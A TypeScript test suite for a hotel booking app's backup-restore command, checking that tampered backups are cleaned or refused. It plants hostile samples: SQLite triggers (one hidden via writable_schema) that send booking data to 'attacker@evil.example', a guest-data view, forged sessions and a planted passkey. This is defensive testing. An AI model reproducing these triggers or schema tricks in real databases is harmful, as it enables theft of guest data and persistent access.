/**
 * `npm run restore -- FILE`: a backup restored into a fresh DATA_DIR lists the same bookings;
 * random bytes are refused and change nothing; a store a running server uses is refused, and a
 * server starting while a restore runs cannot open the store. Issue 49: only the file's data is
 * taken, into a store our migrations build: its triggers (one named `sqlite_stat9`, written with
 * writable_schema), views, indexes and extra tables or columns are left behind; a value of the
 * wrong kind refuses the file; an older backup restores and is migrated; sessions, sign-in
 * addresses and passkeys are never restored.
 */
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import BetterSqlite3 from 'better-sqlite3';
import { sql } from 'kysely';
import { loadBackupConfig } from '../../server/config';
import { takeBackup } from '../../server/db/backup';
import { openMigratedStore } from '../../server/db/store';
import { invite, mintToken } from '../../server/staffConsole/accounts';
import { injectApp, validBooking, BOOK } from './support/app';
import { runBookingsCli, runScript } from './support/process';
import { BACKENDS, removeDir, tempDir } from './support/store';

const runRestore = (env: Record<string, string>, file: string) => runScript('server/cli/restore.ts', [file], env);

/** Every object of an SQLite file's schema, SQLite's own included, as (type, name, table, SQL). */
function fullSchema(file: string): Array<Record<string, unknown>> {
  const database = new BetterSqlite3(file, { readonly: true, fileMustExist: true });
  try {
    return database.prepare('SELECT type, name, tbl_name, sql FROM sqlite_master ORDER BY type, name').all() as Array<
      Record<string, unknown>
    >;
  } finally {
    database.close();
  }
}

/** The schema of a store our migrations build afresh: what a restored store must hold, exactly. */
async function freshSchema(): Promise<Array<Record<string, unknown>>> {
  const dir = tempDir();
  try {
    await (await openMigratedStore({ dataDir: dir, databaseUrl: null })).destroy();
    return fullSchema(path.join(dir, 'bookings.sqlite'));
  } finally {
    removeDir(dir);
  }
}

/** A copy of `backup` in a folder of its own, changed by `tamper`; the caller removes its folder. */
function tamperedCopy(backup: string, tamper: (database: BetterSqlite3.Database) => void): string {
  const file = path.join(tempDir(), 'tampered.sqlite');
  fs.copyFileSync(backup, file);
  const database = new BetterSqlite3(file);
  try {
    tamper(database);
  } finally {
    database.close();
  }
  return file;
}

/**
 * Takes restore's lock in another process, as `npm run restore` holds it while a server starts in
 * a third: the lock is a POSIX lock, which is per process, and jest runs suites one after another
 * in one process, so neither side is tried inside it. Resolves once the lock is held; `release()`
 * ends the process.
 */
async function lockInOtherProcess(file: string): Promise<{ hadStore: boolean; release: () => Promise<void> }> {
  const script = `const { lockStore } = require(${JSON.stringify(path.resolve('server/db/restore.ts'))});
const { lock, hadStore } = lockStore(${JSON.stringify(file)});
process.stdout.write(JSON.stringify({ hadStore }) + '\\n');
process.stdin.on('end', () => { lock.close(); process.exit(0); });
process.stdin.resume();`;
  const child = spawn(process.execPath, ['-r', 'ts-node/register/transpile-only', '-e', script], {
    stdio: ['pipe', 'pipe', 'inherit'],
  });
  const line = await new Promise<string>((resolve, reject) => {
    let out = '';
    child.stdout.on('data', (chunk: Buffer) => {
      out += chunk.toString();
      if (out.includes('\n')) resolve(out.trim());
    });
    child.once('exit', (code) => reject(new Error(`the locking process exited with ${code}`)));
  });
  const release = () =>
    new Promise<void>((resolve) => {
      child.once('exit', () => resolve());
      child.stdin.end();
    });
  return { hadStore: (JSON.parse(line) as { hadStore: boolean }).hadStore, release };
}

/**
 * What a server starting in a process of its own meets: opening and migrating the store of
 * `dataDir` (as `npm start` does first), and restore's own lock. Each answer is "opened" or the error.
 */
async function startInOtherProcess(dataDir: string): Promise<{ store: string; lock: string }> {
  const script = `const { openMigratedStore } = require(${JSON.stringify(path.resolve('server/db/store.ts'))});
const { lockStore } = require(${JSON.stringify(path.resolve('server/db/restore.ts'))});
const path = require('node:path');
(async () => {
  const answer = {};
  try { const db = await openMigratedStore({ dataDir: ${JSON.stringify(dataDir)}, databaseUrl: null }); await db.destroy(); answer.store = 'opened'; } catch (e) { answer.store = String(e && e.message); }
  try { lockStore(path.join(${JSON.stringify(dataDir)}, 'bookings.sqlite')).lock.close(); answer.lock = 'opened'; } catch (e) { answer.lock = String(e && e.name) + ': ' + String(e && e.message); }
  process.stdout.write(JSON.stringify(answer));
})();`;
  const child = spawn(process.execPath, ['-r', 'ts-node/register/transpile-only', '-e', script], {
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  let out = '';
  child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
  await new Promise((resolve) => child.once('exit', resolve));
  return JSON.parse(out) as { store: string; lock: string };
}

describe('npm run restore', () => {
  let dataDir: string;
  let backup: string;
  let listed: string;

  beforeAll(async () => {
    dataDir = tempDir();
    const server = await injectApp({ DATA_DIR: dataDir });
    try {
      for (const name of ['Restored One', 'Restored Two', 'Restored Three'])
        expect((await server.post(BOOK, validBooking({ guestName: name }))).status).toBe(201);
      backup = await takeBackup(loadBackupConfig({ DATA_DIR: dataDir }));
    } finally {
      await server.close();
    }
    listed = (await runBookingsCli({ DATA_DIR: dataDir }, ['--json'])).stdout;
  }, 60_000);
  afterAll(() => removeDir(dataDir));

  it('restores into a fresh DATA_DIR, which then lists the same bookings with --json', async () => {
    const fresh = tempDir();
    try {
      const run = await runRestore({ DATA_DIR: fresh }, backup);
      expect(run.stderr).toBe('');
      expect(run.status).toBe(0);
      const after = await runBookingsCli({ DATA_DIR: fresh }, ['--json']);
      expect(JSON.parse(after.stdout)).toEqual(JSON.parse(listed));
      expect((JSON.parse(listed) as unknown[]).length).toBe(3);
    } finally {
      removeDir(fresh);
    }
  }, 60_000);

  it('refuses random bytes with a clear message and leaves the store as it was', async () => {
    const junk = path.join(tempDir(), 'junk.sqlite');
    fs.writeFileSync(junk, randomBytes(16_384));
    const live = path.join(dataDir, 'bookings.sqlite');
    const before = fs.readFileSync(live);
    const names = fs.readdirSync(dataDir).sort();
    const run = await runRestore({ DATA_DIR: dataDir }, junk);
    expect(run.status).toBe(1);
    expect(run.stderr).toMatch(/^restore: .*junk\.sqlite is not an SQLite database/);
    expect(fs.readFileSync(live).equals(before)).toBe(true);
    expect(fs.readdirSync(dataDir).sort()).toEqual(names);
    removeDir(path.dirname(junk));
  }, 120_000);

  it('leaves a trigger named sqlite_stat9 (written with writable_schema, integrity ok) behind: it neither survives nor fires', async () => {
    const tampered = tamperedCopy(backup, (db) => {
      // A trigger SQLite's CREATE TRIGGER would refuse to name sqlite_*, written into the schema table itself.
      db.unsafeMode(true);
      db.pragma('writable_schema = ON');
      db.prepare(
        "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES ('trigger', 'sqlite_stat9', 'bookings', 0, ?)",
      ).run(`CREATE TRIGGER sqlite_stat9 AFTER INSERT ON bookings BEGIN
        INSERT INTO outbox (id, booking_id, channel, kind, recipient, status, next_attempt_at, created_at, updated_at)
        VALUES (NEW.id || '-x', NEW.id, 'email', 'leak', 'attacker@evil.example', 'pending', '', '', '');
      END`);
      db.pragma('writable_schema = OFF');
    });
    const fresh = tempDir();
    try {
      expect(fullSchema(tampered).some((o) => o.type === 'trigger' && o.name === 'sqlite_stat9')).toBe(true);
      const run = await runRestore({ DATA_DIR: fresh }, tampered);
      expect(run.stderr).toBe('');
      expect(run.status).toBe(0);
      expect(run.stdout).toContain('Left behind, as this server never makes them: trigger "sqlite_stat9".');
      const live = path.join(fresh, 'bookings.sqlite');
      expect(fullSchema(live)).toEqual(await freshSchema());
      const server = await injectApp({ DATA_DIR: fresh });
      try {
        expect((await server.post(BOOK, validBooking({ guestName: 'After Restore' }))).status).toBe(201);
        const leaked = await server.app.store
          .selectFrom('outbox')
          .select('id')
          .where('recipient', '=', 'attacker@evil.example')
          .execute();
        expect(leaked).toEqual([]);
      } finally {
        await server.close();
      }
    } finally {
      removeDir(fresh);
      removeDir(path.dirname(tampered));
    }
  }, 60_000);

  it('leaves a trigger, a view, an index, an extra table and an extra column behind, naming them; the data comes over', async () => {
    const tampered = tamperedCopy(backup, (db) => {
      db.exec(`CREATE TRIGGER leak AFTER INSERT ON bookings BEGIN
        INSERT INTO outbox (id, booking_id, channel, kind, recipient, status, next_attempt_at, created_at, updated_at)
        VALUES (NEW.id || '-x', NEW.id, 'email', 'staff', 'attacker@evil.example', 'pending', '', '', '');
      END`);
      db.exec('CREATE VIEW guests AS SELECT guest_name, phone, email FROM bookings');
      db.exec('CREATE INDEX sneaky ON bookings (email)');
      db.exec("CREATE TABLE loot (what TEXT); INSERT INTO loot VALUES ('x')");
      db.exec("ALTER TABLE bookings ADD COLUMN spy TEXT DEFAULT 'watching'");
    });
    const fresh = tempDir();
    try {
      const run = await runRestore({ DATA_DIR: fresh }, tampered);
      expect(run.stderr).toBe('');
      expect(run.status).toBe(0);
      for (const name of [
        'trigger "leak"',
        'view "guests"',
        'index "sneaky"',
        'table "loot"',
        'column "bookings"."spy"',
      ])
        expect(run.stdout).toContain(name);
      expect(fullSchema(path.join(fresh, 'bookings.sqlite'))).toEqual(await freshSchema());
      const after = await runBookingsCli({ DATA_DIR: fresh }, ['--json']);
      expect(JSON.parse(after.stdout)).toEqual(JSON.parse(listed));
    } finally {
      removeDir(fresh);
      removeDir(path.dirname(tampered));
    }
  }, 60_000);

  it('refuses a value of the wrong kind (text for a price, a fraction for a count, binary data for text) or a past event dated in the future, naming it, with nothing changed', async () => {
    const cases: Array<[string, RegExp]> = [
      [
        "UPDATE bookings SET total_price = 'free'",
        /table "bookings", row 1, column "total_price" holds text where this server keeps a whole number/,
      ],
      ['UPDATE bookings SET guests = 2.5', /column "guests" holds a fraction where this server keeps a whole number/],
      [
        "UPDATE bookings SET room_title = x'00ff'",
        /column "room_title" holds binary data where this server keeps text/,
      ],
      // A time of something that happened, in the future: an age from it would never lapse.
      [
        "UPDATE bookings SET created_at = '2099-01-01T00:00:00.000Z'",
        /table "bookings", row 1, column "created_at" says 2099-01-01T00:00:00.000Z, after this restore/,
      ],
    ];
    const live = path.join(dataDir, 'bookings.sqlite');
    const before = fs.readFileSync(live);
    const names = fs.readdirSync(dataDir).sort();
    for (const [change, message] of cases) {
      const tampered = tamperedCopy(backup, (db) => db.exec(change));
      try {
        const run = await runRestore({ DATA_DIR: dataDir }, tampered);
        expect(run.status).toBe(1);
        expect(run.stderr).toMatch(message);
        expect(run.stderr).toContain('Restore refused: nothing changed.');
      } finally {
        removeDir(path.dirname(tampered));
      }
    }
    expect(fs.readFileSync(live).equals(before)).toBe(true);
    expect(fs.readdirSync(dataDir).sort()).toEqual(names);
  }, 60_000);

  it('restores a backup of an older version (before the last migration) and migrates it', async () => {
    const older = tamperedCopy(backup, (db) => {
      db.exec('ALTER TABLE bookings DROP COLUMN search_key');
      db.exec("DELETE FROM kysely_migration WHERE name = '0019_search_key'");
    });
    const fresh = tempDir();
    try {
      const run = await runRestore({ DATA_DIR: fresh }, older);
      expect(run.stderr).toBe('');
      expect(run.status).toBe(0);
      expect(fullSchema(path.join(fresh, 'bookings.sqlite'))).toEqual(await freshSchema());
      const after = await runBookingsCli({ DATA_DIR: fresh }, ['--json']);
      expect(JSON.parse(after.stdout)).toEqual(JSON.parse(listed));
    } finally {
      removeDir(fresh);
      removeDir(path.dirname(older));
    }
  }, 60_000);

  it('refuses a backup of a newer version (a migration this server does not know), and one lacking a column its migrations make', async () => {
    const newer = tamperedCopy(backup, (db) =>
      db.exec("INSERT INTO kysely_migration (name, timestamp) VALUES ('0999_future', '2030-01-01T00:00:00.000Z')"),
    );
    const lacking = tamperedCopy(backup, (db) => db.exec('ALTER TABLE bookings DROP COLUMN search_key'));
    const fresh = tempDir();
    try {
      const run = await runRestore({ DATA_DIR: fresh }, newer);
      expect(run.status).toBe(1);
      expect(run.stderr).toContain('migrations it does not know: 0999_future');
      const second = await runRestore({ DATA_DIR: fresh }, lacking);
      expect(second.status).toBe(1);
      expect(second.stderr).toContain('table "bookings" lacks the column(s) "search_key"');
      expect(fs.readdirSync(fresh)).toEqual([]);
    } finally {
      removeDir(fresh);
      removeDir(path.dirname(newer));
      removeDir(path.dirname(lacking));
    }
  }, 60_000);

  it('refuses while a server uses the store, and keeps the replaced store as a safety copy once stopped', async () => {
    const server = await injectApp({ DATA_DIR: dataDir });
    try {
      const run = await runRestore({ DATA_DIR: dataDir }, backup);
      expect(run.status).toBe(1);
      expect(run.stderr).toContain('is in use (is the server running?)');
    } finally {
      await server.close();
    }
    const run = await runRestore({ DATA_DIR: dataDir }, backup);
    expect(run.status).toBe(0);
    expect(fs.readdirSync(dataDir).filter((name) => name.startsWith('bookings.sqlite.before-restore-'))).toHaveLength(
      1,
    );
    expect(fs.existsSync(path.join(dataDir, 'bookings.sqlite-wal'))).toBe(false);
    expect(JSON.parse((await runBookingsCli({ DATA_DIR: dataDir }, ['--json'])).stdout)).toEqual(JSON.parse(listed));
  }, 60_000);

  it("holds the store's lock for the whole restore: a server starting meanwhile cannot open the store, and one starts once it is released", async () => {
    const { hadStore, release } = await lockInOtherProcess(path.join(dataDir, 'bookings.sqlite'));
    try {
      expect(hadStore).toBe(true);
      const meanwhile = await startInOtherProcess(dataDir);
      expect(meanwhile.store).toMatch(/locked|busy/i);
      expect(meanwhile.lock).toMatch(/is in use \(is the server running\?\)/);
    } finally {
      await release();
    }
    const server = await injectApp({ DATA_DIR: dataDir });
    try {
      expect((await server.post(BOOK, validBooking({ guestName: 'After Restore' }))).status).toBe(201);
    } finally {
      await server.close();
    }
  }, 60_000);

  it('locks a DATA_DIR with no store yet too, so no server creates one under the restore', async () => {
    const fresh = tempDir();
    try {
      const { hadStore, release } = await lockInOtherProcess(path.join(fresh, 'bookings.sqlite'));
      try {
        expect(hadStore).toBe(false);
        expect((await startInOtherProcess(fresh)).store).toMatch(/locked|busy/i);
      } finally {
        await release();
      }
    } finally {
      removeDir(fresh);
    }
  }, 120_000);

  it('leaves no placeholder store in a fresh DATA_DIR when the restore fails after the checks', async () => {
    const fresh = tempDir();
    const foreign = path.join(tempDir(), 'foreign.sqlite');
    try {
      // Passes the first checks (an SQLite file with both tables) but holds no migrated store of ours.
      const database = new BetterSqlite3(foreign);
      database.exec(
        'CREATE TABLE kysely_migration (name TEXT PRIMARY KEY, timestamp TEXT); CREATE TABLE bookings (x INTEGER);',
      );
      database.close();
      const run = await runRestore({ DATA_DIR: fresh }, foreign);
      expect(run.status).toBe(1);
      expect(fs.readdirSync(fresh)).toEqual([]);
    } finally {
      removeDir(fresh);
      removeDir(path.dirname(foreign));
    }
  }, 120_000);
});

describe('npm run restore: credentials', () => {
  it('restores no session (a planted future-dated one included), sign-in address or passkey: their cookies get 401, and the message says everyone signs in again', async () => {
    const dataDir = tempDir();
    const fresh = tempDir();
    const origin = 'https://hotel.example';
    try {
      const server = await injectApp({ DATA_DIR: dataDir, SITE_ORIGIN: origin });
      let cookie: string;
      let planted: string;
      let link: string;
      try {
        const { account, token } = await invite(server.app.transact, { name: 'Owner', role: 'owner', lang: 'en' });
        const signedIn = await server.post('/api/staff/sign-in/link', { token }, { origin });
        expect(signedIn.status).toBe(200);
        cookie = signedIn.headers['set-cookie']!.split(';')[0]!;
        expect((await server.get('/api/staff/session', { cookie })).status).toBe(200);
        // What a forged backup holds: a session that never lapses, and an unused sign-in address.
        const forged = mintToken();
        planted = forged.token;
        await server.app.store
          .insertInto('staff_sessions')
          .values({
            id: forged.hash,
            staff_id: account.id,
            created_at: '2099-01-01T00:00:00.000Z',
            last_seen_at: '2099-01-01T00:00:00.000Z',
            ended_at: null,
            method: 'link',
          })
          .execute();
        link = (await invite(server.app.transact, { name: 'Reception', role: 'reception', lang: 'ru' })).token;
        await server.app.store
          .insertInto('staff_passkeys')
          .values({
            id: 'planted-credential',
            staff_id: account.id,
            public_key: 'AAAA',
            counter: 0,
            transports: null,
            created_at: new Date().toISOString(),
            last_used_at: null,
          })
          .execute();
      } finally {
        await server.close();
      }
      const backup = await takeBackup(loadBackupConfig({ DATA_DIR: dataDir }));
      const run = await runRestore({ DATA_DIR: fresh }, backup);
      expect(run.stderr).toBe('');
      expect(run.status).toBe(0);
      expect(run.stdout).toContain('(the file held: staff sessions, sign-in addresses, passkeys)');
      expect(run.stdout).toContain('Everyone signs in again');
      const restored = await injectApp({ DATA_DIR: fresh, SITE_ORIGIN: origin });
      try {
        expect((await restored.get('/api/staff/session', { cookie })).status).toBe(401);
        expect((await restored.get('/api/staff/session', { cookie: `__Host-staff_session=${planted}` })).status).toBe(
          401,
        );
        expect((await restored.post('/api/staff/sign-in/link', { token: link }, { origin })).status).toBe(400);
        for (const table of ['staff_sessions', 'staff_sign_in_links', 'staff_passkeys', 'staff_challenges'] as const)
          expect(await restored.app.store.selectFrom(table).selectAll().execute()).toEqual([]);
        // The accounts themselves stay: a new address signs the owner in.
        const accounts = await restored.app.store.selectFrom('staff_accounts').select('name').orderBy('name').execute();
        expect(accounts.map((row) => row.name)).toEqual(['Owner', 'Reception']);
      } finally {
        await restored.close();
      }
    } finally {
      removeDir(dataDir);
      removeDir(fresh);
    }
  }, 60_000);
});

const PG = BACKENDS.find((backend) => backend.name === 'postgres');

(PG ? describe : describe.skip)('npm run restore -- --after-pg-restore (PostgreSQL)', () => {
  it('deletes sessions, sign-in addresses and passkeys, and drops the triggers, views and functions a dump brought', async () => {
    const store = await PG!.create();
    const origin = 'https://hotel.example';
    try {
      const server = await injectApp({ ...store.env, SITE_ORIGIN: origin });
      let cookie: string;
      try {
        const { token } = await invite(server.app.transact, { name: 'Owner', role: 'owner', lang: 'en' });
        const signedIn = await server.post('/api/staff/sign-in/link', { token }, { origin });
        cookie = signedIn.headers['set-cookie']!.split(';')[0]!;
        expect((await server.get('/api/staff/session', { cookie })).status).toBe(200);
        // What a forged dump may bring with its data: a function, a trigger calling it, a view.
        await sql`CREATE FUNCTION leak() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$`.execute(
          server.app.store,
        );
        await sql`CREATE TRIGGER sqlite_stat9 AFTER INSERT ON bookings FOR EACH ROW EXECUTE FUNCTION leak()`.execute(
          server.app.store,
        );
        await sql`CREATE VIEW guests AS SELECT guest_name, phone FROM bookings`.execute(server.app.store);
      } finally {
        await server.close();
      }
      const run = await runScript('server/cli/restore.ts', ['--after-pg-restore'], store.env);
      expect(run.stderr).toBe('');
      expect(run.status).toBe(0);
      expect(run.stdout).toContain('(the store held: staff sessions, sign-in addresses');
      expect(run.stdout).toContain('Everyone signs in again');
      expect(run.stdout).toContain('trigger "sqlite_stat9"');
      expect(run.stdout).toContain('view "guests"');
      expect(run.stdout).toContain('function leak()');
      const after = await injectApp({ ...store.env, SITE_ORIGIN: origin });
      try {
        expect((await after.get('/api/staff/session', { cookie })).status).toBe(401);
        const left = await sql<{ n: number }>`
          SELECT (SELECT count(*) FROM pg_trigger t JOIN pg_class c ON c.oid = t.tgrelid
                  JOIN pg_namespace s ON s.oid = c.relnamespace
                  WHERE NOT t.tgisinternal AND s.nspname = current_schema())
               + (SELECT count(*) FROM pg_views WHERE schemaname = current_schema())
               + (SELECT count(*) FROM pg_proc p JOIN pg_namespace s ON s.oid = p.pronamespace
                  WHERE s.nspname = current_schema()) AS n`.execute(after.app.store);
        expect(Number(left.rows[0]!.n)).toBe(0);
        expect((await after.post(BOOK, validBooking())).status).toBe(201);
      } finally {
        await after.close();
      }
    } finally {
      await store.drop();
    }
  }, 60_000);
});
